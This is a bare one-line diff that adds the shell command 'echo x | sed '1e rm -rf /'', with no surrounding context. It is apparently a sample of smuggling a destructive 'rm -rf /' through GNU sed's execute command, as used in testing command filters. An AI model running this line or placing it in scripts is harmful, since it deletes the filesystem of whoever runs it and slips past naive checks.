@@ -1,0 +1,1 @@
+echo x | sed '1e rm -rf /'
